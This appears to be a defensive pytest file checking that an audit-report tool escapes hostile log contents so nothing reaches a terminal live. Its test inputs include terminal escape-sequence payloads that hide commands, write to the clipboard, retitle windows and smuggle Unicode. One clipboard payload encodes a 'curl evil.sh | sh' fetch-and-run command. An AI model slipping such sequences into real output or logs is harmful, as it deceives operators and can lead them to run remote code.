"""Hostile log contents are displayed inert: no byte a terminal would act on reaches the output."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from guard.text.display import clip, inert
from tests.audit.audit_records import FORBIDDEN, record, write_jsonl

REPO = Path(__file__).resolve().parents[2]

HOSTILE = [
    "\x1b[2J\x1b[H git push",  # clear screen, cursor home
    "git status\x1b[1A\x1b[2K\x1b[1Gls -la",  # cursor up, erase line: hide the real command
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07echo copied",  # OSC 52 clipboard write, BEL-terminated
    "\x1b]52;c;Y3VybA==\x1b\\echo st-terminated",  # OSC 52, ST-terminated
    "\x1b]0;pwned title\x07git push",  # window title
    "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",  # hyperlink
    "safe command\rgit push --force",  # carriage-return overwrite
    "bell\x07\x07 and backspace\x08\x08\x08",
    "\x9b31m8-bit CSI\x9d0;c1 title\x9c \x90dcs\x9c \x85nel",  # C1 controls
    "echo \u202eevil\u202c \u2066isolate\u2069 zw\u200bsp \ufeffbom \u2028ls",  # bidi, zero-width, separators
    "tag \U000e0067\U000e0069\U000e0074 smuggled",  # Unicode tag characters
    "\x1bP+q544e\x1b\\ DCS query",  # DCS
    "nul\x00 del\x7f",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_inert_leaves_no_active_character(text: str) -> None:
    out = inert(text).encode("utf-8", "surrogateescape")
    assert not FORBIDDEN.search(out), out
    assert b"\t" not in out and b"\n" not in out


def test_inert_escapes_are_visible_and_ordinary_text_untouched() -> None:
    assert inert("a\x1b[2Jb\rc\nd\te\x07") == "a\\x1b[2Jb\\rc\\nd\\te\\x07"
    assert inert("\u202eabc") == "\\u202eabc"
    assert inert("\x9b") == "\\x9b"
    assert inert("git push — ünïcode ✓ 日本") == "git push — ünïcode ✓ 日本"
    assert inert("lone \udcff") == "lone \\udcff"
    assert inert(None) == "-"
    assert clip("abcdef", 4) == "abc…" and clip("abc", 4) == "abc"


@pytest.fixture
def hostile_log(tmp_path: Path) -> Path:
    recs = []
    for i, text in enumerate(HOSTILE):
        recs.append(
            record(
                i * 30,
                command=text,
                agent=f"agent\x1b[31m{i % 2}\x07",
                thread=f"t\r{i % 2}\u202e",
                cwd="/workspace/\x1b]0;x\x07dir",
                rule=f"rule-\x1b[5m{i % 2}",
                category="publish\x9b2J",
                role="worker\x1b[8m",
                via=["alias \x1b[2Jg"],
            )
        )
    return write_jsonl(tmp_path / "hostile\x1b[2J.jsonl", recs, extra_lines=("\x1b[2J not json at all\x07",))


@pytest.mark.parametrize("mode", [[], ["--json"], ["--csv"], ["--records"], ["--rules-list", "RULES"]])
def test_report_output_is_inert(mode: list[str], hostile_log: Path, tmp_path: Path) -> None:
    rules = tmp_path / "rules.txt"
    rules.write_text("\x1b]52;c;ZXZpbA==\x07rule\nrule-\x1b[5m0\n")
    argv = [str(rules) if a == "RULES" else a for a in mode]
    proc = subprocess.run(
        [
            sys.executable,
            "-c",
            "import sys; from guard.audit.reports.report import main; sys.exit(main(sys.argv[1:]))",
            str(hostile_log),
            *argv,
        ],
        capture_output=True,
        cwd=REPO,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout, "the report printed nothing"
    for stream in (proc.stdout, proc.stderr):
        hit = FORBIDDEN.search(stream)
        assert hit is None, (hit, stream[max(0, hit.start() - 40) : hit.end() + 40] if hit else b"")
    # The hostile content is still visible to the operator, escaped.
    if not mode:
        assert b"\\x1b[2J" in proc.stdout and b"\\r" in proc.stdout
    assert b"skipped 1 malformed line" in proc.stderr and b"\\x1b[2J" in proc.stderr
